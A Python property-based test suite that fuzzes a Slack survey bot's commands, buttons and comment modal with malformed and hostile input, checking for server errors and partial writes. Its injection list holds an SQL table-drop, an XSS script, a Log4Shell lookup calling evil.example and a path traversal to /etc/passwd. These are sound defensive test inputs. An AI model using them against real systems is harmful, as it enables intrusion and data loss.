"""Property-based: malformed and hostile payloads — wrong types, missing fields, huge strings,
unicode, injection attempts — at the slash commands, the pulse buttons and the comment modal.
Never a 500, never a partial write, and a clear reply wherever Slack would show one."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import parse_qs, urlencode

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlmodel import func, select

from bot.runtime import Runtime
from bot.surveys import FREE_TEXT_LIMIT
from bot.web import MAX_BODY_BYTES
from handlers.slack.blocks.pulse import COMMENT_BLOCK, COMMENT_INPUT, COMMENT_VIEW
from handlers.slack.dedupe import request_identity
from handlers.slack.simulation.people import People
from handlers.slack.simulation.signing import FORM, block_actions, slash_command, state_text, view_submission
from handlers.slack.simulation.slack_api import FakeSlack, Message
from handlers.slack.simulation.workspace import Workspace
from storage.models import OutboxMessage, PulseOptOut, RoundParticipation, SurveyAnswer, SurveyRound
from tests.support import eventually

EXAMPLES = settings(
    max_examples=40,
    deadline=None,
    # One running app serves every example, as a real one serves every request.
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
INJECTIONS = (
    "'; DROP TABLE survey_answer; --",
    '" OR 1=1 --',
    "<script>alert(1)</script>",
    "<!channel> <!here> <@U0AAAAAAAA> <#C0BBBBBBB|general>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} %s%s%s%n",
    "../../../../etc/passwd",
    "\x00\x1b[31m\u202e\ufeff",
    "ﷺ𒐫𝕳𝖊𝖑𝖑𝖔 👩‍👩‍👧‍👦 Zalgo: Z̷̢͕͉̓a̶l̵g̵o̸",
    "send",
    "optout",
)


class Huge(str):
    """A very long string that reports itself briefly (Hypothesis prints failing inputs)."""

    __slots__ = ()

    def __repr__(self) -> str:
        return f"Huge({len(self)} × {self[:1]!r})"


TEXT = st.one_of(
    st.text(max_size=40),
    st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=300),
    st.sampled_from(INJECTIONS),
    st.builds(
        lambda n, ch: Huge(ch * n), st.integers(min_value=1_001, max_value=20_000), st.sampled_from("aÄ<😀")
    ),
)
SCALAR = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False, allow_infinity=False), TEXT
)
JSON_VALUE = st.recursive(
    SCALAR,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
    max_leaves=6,
)
Path = tuple[str | int, ...]
ACTION_PATHS: list[Path] = [
    ("actions",),
    ("actions", 0),
    ("actions", 0, "value"),
    ("actions", 0, "action_id"),
    ("actions", 0, "block_id"),
    ("actions", 0, "action_ts"),
    ("user",),
    ("user", "id"),
    ("team",),
    ("team", "id"),
    ("container",),
    ("container", "channel_id"),
    ("container", "message_ts"),
    ("channel",),
    ("message",),
    ("trigger_id",),
    ("response_url",),
    ("state",),
]
VIEW_PATHS: list[Path] = [
    ("user",),
    ("user", "id"),
    ("team",),
    ("view",),
    ("view", "private_metadata"),
    ("view", "state"),
    ("view", "state", "values"),
    ("view", "state", "values", COMMENT_BLOCK),
    ("view", "state", "values", COMMENT_BLOCK, COMMENT_INPUT),
    ("view", "state", "values", COMMENT_BLOCK, COMMENT_INPUT, "value"),
    ("view", "id"),
    ("view", "hash"),
    ("trigger_id",),
]
ANSWER_KEYS = ("r", "q", "b", "t", "v")


def _mutations(paths: list[Path]) -> st.SearchStrategy[list[tuple[str, Any, Any]]]:
    """1-3 edits: set a field to anything, delete it, or poison one key of the button's JSON."""
    edit = st.one_of(
        st.tuples(st.just("set"), st.sampled_from(paths), JSON_VALUE),
        st.tuples(st.just("delete"), st.sampled_from(paths), st.none()),
        st.tuples(st.just("answer"), st.sampled_from(ANSWER_KEYS), JSON_VALUE),
        st.tuples(st.just("answer-raw"), st.just(("actions", 0, "value")), TEXT),
    )
    return st.lists(edit, min_size=1, max_size=3)


def _apply(payload: dict[str, Any], edits: list[tuple[str, Any, Any]]) -> dict[str, Any]:
    body = json.loads(json.dumps(payload))
    for kind, where, value in edits:
        if kind == "answer":
            try:
                action = body["actions"][0]
                action["value"] = json.dumps({**json.loads(action["value"]), where: value})
            except (KeyError, IndexError, TypeError, ValueError):
                pass
            continue
        if kind == "answer-raw":
            kind = "set"
        *parents, last = where
        node: Any = body
        for key in parents:
            try:
                node = node[key]
            except (KeyError, IndexError, TypeError):
                node = None
                break
        if isinstance(node, dict) or (isinstance(node, list) and isinstance(last, int) and last < len(node)):
            if kind == "delete":
                if isinstance(node, list) or last in node:
                    del node[last]
            else:
                node[last] = value
    return body


def _payload_of(form: tuple[bytes, str]) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(parse_qs(form[0].decode())["payload"][0])
    return data


def _form(payload: dict[str, Any]) -> tuple[bytes, str]:
    return urlencode({"payload": json.dumps(payload)}).encode(), FORM


class Stage:
    """A round in progress and one invited person holding its pulse DM."""

    def __init__(
        self, runtime: Runtime, people: People, slack: FakeSlack, user: str, message: Message
    ) -> None:
        self.runtime, self.people, self.slack = runtime, people, slack
        self.user, self.message = user, message
        self.seen: set[str] = set()

    def __repr__(self) -> str:
        return f"Stage(user={self.user!r})"  # the whole DM would swamp Hypothesis' report

    async def counts(self) -> dict[str, int]:
        """Rows per table that a request could write."""
        found = {}
        async with self.runtime.db.session() as session:
            for model in (SurveyAnswer, RoundParticipation, PulseOptOut, SurveyRound, OutboxMessage):
                found[model.__name__] = int(
                    (await session.exec(select(func.count()).select_from(model))).one()
                )
        return found

    def visible(self) -> int:
        """How many things the person could see so far: private replies, DMs, edits, modals."""
        return (
            len(self.slack.ephemerals(self.user))
            + len(self.slack.dm_messages(self.user))
            + self.slack.redraws()
            + len(self.slack.calls_to("views.open"))
        )

    async def check_consistent(self) -> None:
        """No half-written answer: answers and the participation mark come and go together, every
        stored value is one of its question's options, every comment fits and names no one."""
        bank = self.runtime.services.surveys.bank
        async with self.runtime.db.session() as session:
            answers = list(await session.exec(select(SurveyAnswer)))
            marks = int((await session.exec(select(func.count()).select_from(RoundParticipation))).one())
        # Participation is written apart from answers, in batches of k (bot/answers.py): count the waiting.
        marks += self.runtime.services.surveys.answers.pending()
        # One person acts here: one mark at most, and never an answer without it (a mark without
        # answers is fine: emptying the comment box withdraws a comment, not the participation).
        assert marks <= 1 and (marks == 1 or not answers), (marks, len(answers))
        for answer in answers:
            question = bank.get(answer.question_id)
            assert question is not None
            if question.kind == "text":
                assert answer.value is None and answer.text and len(answer.text) <= FREE_TEXT_LIMIT
                assert "<@" not in answer.text and "<!" not in answer.text
            else:
                assert answer.text is None and answer.value in question.values


@pytest.fixture
async def stage(runtime: Runtime, people: People, slack: FakeSlack, workspace: Workspace) -> Stage:
    """An open round; the first employee who is neither coordinator nor supporter has their DM."""
    await people.send_pulse(workspace.coordinators()[0])
    staff = {*workspace.coordinators(), *workspace.supporters()}
    user = next(u.id for u in workspace.active_humans() if u.id not in staff)
    message = await eventually(lambda: people.pulse_message(user), timeout=20)
    humans = [u.id for u in workspace.active_humans()]
    await eventually(lambda: all(people.pulse_message(u) for u in humans), timeout=20)
    return Stage(runtime, people, slack, user, message)


async def _send(stage: Stage, payload: dict[str, Any]) -> tuple[int, Any]:
    """Post a mutated payload and wait for the reply Slack would show; return status and body."""
    before = stage.visible()
    key = request_identity(payload)
    repeat = key is not None and key in stage.seen
    if key is not None:
        stage.seen.add(key)
    status, body = await stage.people.post(_form(payload))
    addressed = status == 200 and _slack_shaped(payload) and not repeat
    user = payload.get("user")
    in_form = isinstance(body, dict) and body.get("response_action") == "errors"
    if addressed and not in_form and isinstance(user, dict) and user.get("id") == stage.user:
        # The reply comes after the ack; a person always learns what became of their gesture.
        await eventually(lambda: stage.visible() > before, timeout=3)
    if repeat and status < 400:
        # Refused as malformed is not acted on (and the row counts show nothing was written).
        assert not body, "a repeated delivery was acted on"
    return status, body


def _has(node: Any, *path: str | int, kind: type = str) -> bool:
    for key in path:
        in_dict = isinstance(node, dict) and isinstance(key, str) and key in node
        in_list = isinstance(node, list) and isinstance(key, int) and key < len(node)
        if not (in_dict or in_list):
            return False
        node = node[key]
    return isinstance(node, kind)


def _slack_shaped(payload: dict[str, Any]) -> bool:
    """Whether Slack itself could have sent this, fields of the right types where Slack always
    sends them; Slack shows nothing for requests it never made, so only these owe a reply."""
    if not _has(payload, "user", "id"):
        return False
    if payload.get("type") == "view_submission":
        return (
            _has(payload, "view", "callback_id")
            and _has(payload, "view", "private_metadata")
            and _has(payload, "view", "state", "values", kind=dict)
        )
    return (
        _has(payload, "actions", 0, "action_id")
        and _has(payload, "actions", 0, "value")
        and _has(payload, "container", "channel_id")
        and _has(payload, "container", "message_ts")
    )


@given(edits=_mutations(ACTION_PATHS), pick=st.integers(min_value=0, max_value=4))
@EXAMPLES
async def test_hostile_answer_clicks(stage: Stage, edits: list[tuple[str, Any, Any]], pick: int) -> None:
    options = next(iter(stage.people.answer_buttons(stage.message).values()))
    button = options[pick]
    base = _payload_of(
        block_actions(
            user_id=stage.user,
            action_id=button.action_id,
            block_id=button.block_id,
            value=button.value,
            channel_id=stage.message.channel,
            message_ts=stage.message.ts,
            trigger_id=stage.slack.new_trigger_id(stage.user),
            response_url=stage.slack.new_response_url(),
            message={
                "ts": stage.message.ts,
                "text": stage.message.text,
                "blocks": stage.message.blocks or [],
            },
        )
    )
    before = await stage.counts()
    status, _ = await _send(stage, _apply(base, edits))
    assert status < 500
    after = await stage.counts()
    # Nothing but an answer (and its participation mark) may ever be written by a click.
    assert {k: v for k, v in after.items() if k not in {"SurveyAnswer", "RoundParticipation"}} == {
        k: v for k, v in before.items() if k not in {"SurveyAnswer", "RoundParticipation"}
    }
    await stage.check_consistent()


@given(edits=_mutations(ACTION_PATHS))
@EXAMPLES
async def test_hostile_comment_button_clicks(stage: Stage, edits: list[tuple[str, Any, Any]]) -> None:
    button = stage.people.comment_button(stage.message)
    assert button is not None
    base = _payload_of(
        block_actions(
            user_id=stage.user,
            action_id=button.action_id,
            block_id=button.block_id,
            value=button.value,
            channel_id=stage.message.channel,
            message_ts=stage.message.ts,
            trigger_id=stage.slack.new_trigger_id(stage.user),
            response_url=stage.slack.new_response_url(),
            message={
                "ts": stage.message.ts,
                "text": stage.message.text,
                "blocks": stage.message.blocks or [],
            },
        )
    )
    before = await stage.counts()
    status, _ = await _send(stage, _apply(base, edits))
    assert status < 500
    assert await stage.counts() == before  # opening a modal writes nothing


@given(edits=_mutations(VIEW_PATHS), text=TEXT)
@EXAMPLES
async def test_hostile_comment_submissions(
    stage: Stage, edits: list[tuple[str, Any, Any]], text: str
) -> None:
    button = stage.people.comment_button(stage.message)
    assert button is not None
    opened = len(stage.slack.opened_views())
    await stage.people.click(stage.user, stage.message, button)
    modal = (await eventually(lambda: stage.slack.opened_views()[opened:]))[0].view
    base = _payload_of(
        view_submission(
            user_id=stage.user,
            callback_id=COMMENT_VIEW,
            private_metadata=modal["private_metadata"],
            state_values={COMMENT_BLOCK: {COMMENT_INPUT: state_text(text)}},
            trigger_id=stage.slack.new_trigger_id(stage.user),
        )
    )
    before = await stage.counts()
    status, body = await _send(stage, _apply(base, edits))
    assert status < 500
    after = await stage.counts()
    assert {k: v for k, v in after.items() if k not in {"SurveyAnswer", "RoundParticipation"}} == {
        k: v for k, v in before.items() if k not in {"SurveyAnswer", "RoundParticipation"}
    }
    if isinstance(body, dict) and body.get("response_action") == "errors":
        # Refused in the form itself: the person sees why, and nothing changed.
        assert all(isinstance(v, str) and 0 < len(v) <= 300 for v in body["errors"].values())
        assert after == before
    await stage.check_consistent()


@given(
    command=st.sampled_from(["/pulse", "/peer-log", "/feedback"]),
    text=TEXT,
    user=st.one_of(st.none(), TEXT),
    trigger=st.one_of(st.none(), TEXT),
)
@EXAMPLES
async def test_hostile_slash_commands(
    stage: Stage, command: str, text: str, user: str | None, trigger: str | None
) -> None:
    fields = {
        k: v[0]
        for k, v in parse_qs(
            slash_command(
                command, text, user_id=user or stage.user, trigger_id=trigger or stage.slack.new_trigger_id()
            )[0].decode(),
            keep_blank_values=True,
        ).items()
    }
    fields["text"] = text  # parse_qs drops what it cannot decode; send exactly what was drawn
    key = request_identity(fields)
    repeat = key in stage.seen
    stage.seen.add(str(key))
    before = await stage.counts()
    opened = len(stage.slack.calls_to("views.open"))
    encoded = urlencode(fields).encode()
    status, body = await stage.people.post((encoded, FORM))
    if len(encoded) > MAX_BODY_BYTES:
        # Far beyond anything Slack sends: refused whole, before it is read, and nothing changes.
        assert status == 413
        assert await stage.counts() == before
        return
    assert status == 200
    if repeat:
        assert not body and await stage.counts() == before  # a replay is acked and ignored
        return
    # Slack shows the ack text; an empty ack is only right when a modal opened instead.
    assert (
        (isinstance(body, str) and body.strip())
        or isinstance(body, dict)
        or len(stage.slack.calls_to("views.open")) > opened
    ), repr(body)[:200]
    assert "Traceback" not in str(body)
    after = await stage.counts()
    assert after["SurveyRound"] == before["SurveyRound"] and after["SurveyAnswer"] == before["SurveyAnswer"]
    await stage.check_consistent()
